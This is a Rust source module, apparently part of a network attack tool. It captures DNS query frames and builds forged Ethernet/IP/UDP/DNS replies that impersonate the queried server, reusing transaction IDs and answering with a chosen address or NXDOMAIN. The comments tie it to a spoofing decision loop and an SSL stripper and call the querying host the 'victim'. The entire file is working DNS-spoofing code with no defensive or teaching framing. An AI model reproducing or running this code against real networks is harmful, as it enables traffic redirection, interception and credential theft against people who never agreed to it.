//! Forged DNS reply construction
//!
//! Given a captured DNS query frame and a chosen answer, builds the complete
//! Ethernet/IP/UDP/DNS reply and hands it to the shared packet sink. Used by
//! the spoofing decision loop and by the SSL stripper's counter-spoof
//! sniffer.

use std::net::IpAddr;
use std::sync::Arc;

use pnet::packet::ethernet::{EtherTypes, EthernetPacket, MutableEthernetPacket};
use pnet::packet::ip::IpNextHeaderProtocols;
use pnet::packet::ipv4::{Ipv4Flags, Ipv4Packet, MutableIpv4Packet};
use pnet::packet::ipv6::{Ipv6Packet, MutableIpv6Packet};
use pnet::packet::udp::{MutableUdpPacket, UdpPacket};
use pnet::packet::{MutablePacket, Packet};
use thiserror::Error;
use tracing::debug;
use trust_dns_proto::error::ProtoError;
use trust_dns_proto::op::{Message, MessageType, OpCode, ResponseCode};
use trust_dns_proto::rr::rdata::{A, AAAA};
use trust_dns_proto::rr::{RData, Record, RecordType};
use trust_dns_proto::serialize::binary::{BinDecodable, BinEncodable, BinEncoder};

use crate::capture::{CaptureError, PacketSink};
use crate::context::InterfaceInfo;

const ETHERNET_HEADER_LEN: usize = 14;
const IPV4_HEADER_LEN: usize = 20;
const IPV6_HEADER_LEN: usize = 40;
const UDP_HEADER_LEN: usize = 8;

/// TTL stamped on every forged answer record.
const SPOOF_TTL: u32 = 1024;

/// What to answer a captured query with.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SpoofAnswer {
    /// Answer every question with this address.
    Address(IpAddr),

    /// Answer "no such domain".
    NxDomain,
}

#[derive(Debug, Error)]
pub enum ReplyError {
    #[error("frame has no IPv4/IPv6 network layer")]
    NoNetworkLayer,

    #[error("frame has no UDP transport layer")]
    NoTransportLayer,

    #[error("truncated frame")]
    Truncated,

    #[error("interface has no address for the query's family")]
    NoResponderAddress,

    #[error("DNS message error: {0}")]
    Dns(#[from] ProtoError),

    #[error(transparent)]
    Transmit(#[from] CaptureError),
}

/// Stateless forged-reply builder bound to one interface identity and the
/// shared outbound sink.
#[derive(Clone)]
pub struct DnsResponder {
    interface: InterfaceInfo,
    sink: Arc<dyn PacketSink>,
}

impl DnsResponder {
    pub fn new(interface: InterfaceInfo, sink: Arc<dyn PacketSink>) -> Self {
        Self { interface, sink }
    }

    /// Build the forged reply for `query_frame` and transmit it.
    pub fn respond(&self, query_frame: &[u8], answer: SpoofAnswer) -> Result<(), ReplyError> {
        let frame = self.build_reply(query_frame, answer)?;
        self.sink.transmit(&frame)?;
        Ok(())
    }

    /// Build the raw reply frame without sending it.
    ///
    /// The reply reuses the query's Ethernet addresses reversed, keeps the
    /// query's IP version with the responder's address as source, swaps the
    /// UDP ports and answers every question with one A/AAAA record (or
    /// NXDOMAIN with no answers).
    pub fn build_reply(&self, query_frame: &[u8], answer: SpoofAnswer) -> Result<Vec<u8>, ReplyError> {
        let eth = EthernetPacket::new(query_frame).ok_or(ReplyError::Truncated)?;

        match eth.get_ethertype() {
            EtherTypes::Ipv4 => {
                let ip = Ipv4Packet::new(eth.payload()).ok_or(ReplyError::Truncated)?;
                if ip.get_next_level_protocol() != IpNextHeaderProtocols::Udp {
                    return Err(ReplyError::NoTransportLayer);
                }
                let udp = UdpPacket::new(ip.payload()).ok_or(ReplyError::Truncated)?;
                let dns = build_dns_payload(udp.payload(), answer)?;

                let responder_ip = self.interface.ipv4;
                let victim_ip = ip.get_source();

                // UDP with ports swapped
                let mut udp_buf = vec![0u8; UDP_HEADER_LEN + dns.len()];
                let mut udp_out =
                    MutableUdpPacket::new(&mut udp_buf).ok_or(ReplyError::Truncated)?;
                udp_out.set_source(udp.get_destination());
                udp_out.set_destination(udp.get_source());
                udp_out.set_length((UDP_HEADER_LEN + dns.len()) as u16);
                udp_out.set_payload(&dns);
                let csum = pnet::packet::udp::ipv4_checksum(
                    &udp_out.to_immutable(),
                    &responder_ip,
                    &victim_ip,
                );
                udp_out.set_checksum(csum);

                // IPv4 from the responder back to the querying host
                let total_len = IPV4_HEADER_LEN + udp_buf.len();
                let mut ip_buf = vec![0u8; total_len];
                let mut ip_out =
                    MutableIpv4Packet::new(&mut ip_buf).ok_or(ReplyError::Truncated)?;
                ip_out.set_version(4);
                ip_out.set_header_length((IPV4_HEADER_LEN / 4) as u8);
                ip_out.set_total_length(total_len as u16);
                ip_out.set_identification(rand::random::<u16>());
                ip_out.set_flags(Ipv4Flags::DontFragment);
                ip_out.set_ttl(64);
                ip_out.set_next_level_protocol(IpNextHeaderProtocols::Udp);
                ip_out.set_source(responder_ip);
                ip_out.set_destination(victim_ip);
                ip_out.set_payload(&udp_buf);
                let csum = pnet::packet::ipv4::checksum(&ip_out.to_immutable());
                ip_out.set_checksum(csum);

                Ok(self.wrap_ethernet(&eth, EtherTypes::Ipv4, &ip_buf)?)
            }
            EtherTypes::Ipv6 => {
                let ip = Ipv6Packet::new(eth.payload()).ok_or(ReplyError::Truncated)?;
                if ip.get_next_header() != IpNextHeaderProtocols::Udp {
                    return Err(ReplyError::NoTransportLayer);
                }
                let udp = UdpPacket::new(ip.payload()).ok_or(ReplyError::Truncated)?;
                let dns = build_dns_payload(udp.payload(), answer)?;

                let responder_ip = self.interface.ipv6.ok_or(ReplyError::NoResponderAddress)?;
                let victim_ip = ip.get_source();

                let mut udp_buf = vec![0u8; UDP_HEADER_LEN + dns.len()];
                let mut udp_out =
                    MutableUdpPacket::new(&mut udp_buf).ok_or(ReplyError::Truncated)?;
                udp_out.set_source(udp.get_destination());
                udp_out.set_destination(udp.get_source());
                udp_out.set_length((UDP_HEADER_LEN + dns.len()) as u16);
                udp_out.set_payload(&dns);
                let csum = pnet::packet::udp::ipv6_checksum(
                    &udp_out.to_immutable(),
                    &responder_ip,
                    &victim_ip,
                );
                udp_out.set_checksum(csum);

                let mut ip_buf = vec![0u8; IPV6_HEADER_LEN + udp_buf.len()];
                let mut ip_out =
                    MutableIpv6Packet::new(&mut ip_buf).ok_or(ReplyError::Truncated)?;
                ip_out.set_version(6);
                ip_out.set_payload_length(udp_buf.len() as u16);
                ip_out.set_next_header(IpNextHeaderProtocols::Udp);
                ip_out.set_hop_limit(64);
                ip_out.set_source(responder_ip);
                ip_out.set_destination(victim_ip);
                ip_out.set_payload(&udp_buf);

                Ok(self.wrap_ethernet(&eth, EtherTypes::Ipv6, &ip_buf)?)
            }
            other => {
                debug!(ethertype = %other, "Query frame has no network layer, dropping");
                Err(ReplyError::NoNetworkLayer)
            }
        }
    }

    fn wrap_ethernet(
        &self,
        query_eth: &EthernetPacket<'_>,
        ethertype: pnet::packet::ethernet::EtherType,
        payload: &[u8],
    ) -> Result<Vec<u8>, ReplyError> {
        let mut frame = vec![0u8; ETHERNET_HEADER_LEN + payload.len()];
        let mut eth_out = MutableEthernetPacket::new(&mut frame).ok_or(ReplyError::Truncated)?;
        // Query addresses reversed: the reply appears to come from whoever
        // the victim asked.
        eth_out.set_destination(query_eth.get_source());
        eth_out.set_source(query_eth.get_destination());
        eth_out.set_ethertype(ethertype);
        eth_out.set_payload(payload);
        Ok(frame)
    }
}

/// A captured frame reduced to the pieces the decision layers need.
pub(crate) struct CapturedDns {
    pub(crate) src_mac: pnet::util::MacAddr,
    pub(crate) dst_mac: pnet::util::MacAddr,
    pub(crate) src_ip: IpAddr,
    pub(crate) dst_ip: IpAddr,
    pub(crate) message: Message,
}

/// Decode an Ethernet/IP/UDP/DNS frame, returning `None` for anything that
/// is not a parsable DNS-over-UDP datagram.
pub(crate) fn decode_dns_frame(frame: &[u8]) -> Option<CapturedDns> {
    let eth = EthernetPacket::new(frame)?;
    let (src_ip, dst_ip, udp_payload) = match eth.get_ethertype() {
        EtherTypes::Ipv4 => {
            let ip = Ipv4Packet::new(eth.payload())?;
            if ip.get_next_level_protocol() != IpNextHeaderProtocols::Udp {
                return None;
            }
            let udp = UdpPacket::new(ip.payload())?;
            (
                IpAddr::V4(ip.get_source()),
                IpAddr::V4(ip.get_destination()),
                udp.payload().to_vec(),
            )
        }
        EtherTypes::Ipv6 => {
            let ip = Ipv6Packet::new(eth.payload())?;
            if ip.get_next_header() != IpNextHeaderProtocols::Udp {
                return None;
            }
            let udp = UdpPacket::new(ip.payload())?;
            (
                IpAddr::V6(ip.get_source()),
                IpAddr::V6(ip.get_destination()),
                udp.payload().to_vec(),
            )
        }
        _ => return None,
    };

    let message = Message::from_bytes(&udp_payload).ok()?;
    Some(CapturedDns {
        src_mac: eth.get_source(),
        dst_mac: eth.get_destination(),
        src_ip,
        dst_ip,
        message,
    })
}

/// Build the DNS message bytes of the reply: same transaction id, same
/// question section, `QR=1`, and either one address record per question or
/// an empty NXDOMAIN answer. The answer record mirrors the question type;
/// a question whose type does not match the spoofed address family gets no
/// record at all.
fn build_dns_payload(query_payload: &[u8], answer: SpoofAnswer) -> Result<Vec<u8>, ReplyError> {
    let query = Message::from_bytes(query_payload)?;

    let mut reply = Message::new();
    reply.set_id(query.id());
    reply.set_message_type(MessageType::Response);
    reply.set_op_code(OpCode::Query);
    reply.set_recursion_desired(query.recursion_desired());
    reply.set_recursion_available(true);

    for question in query.queries() {
        reply.add_query(question.clone());
    }

    match answer {
        SpoofAnswer::Address(ip) => {
            for question in query.queries() {
                let rdata = match (question.query_type(), ip) {
                    (RecordType::A, IpAddr::V4(v4)) => RData::A(A::from(v4)),
                    (RecordType::AAAA, IpAddr::V6(v6)) => RData::AAAA(AAAA::from(v6)),
                    _ => continue,
                };
                let mut record = Record::from_rdata(question.name().clone(), SPOOF_TTL, rdata);
                record.set_dns_class(question.query_class());
                reply.add_answer(record);
            }
        }
        SpoofAnswer::NxDomain => {
            reply.set_response_code(ResponseCode::NXDomain);
        }
    }

    let mut buf = Vec::with_capacity(512);
    let mut encoder = BinEncoder::new(&mut buf);
    reply.emit(&mut encoder)?;
    Ok(buf)
}
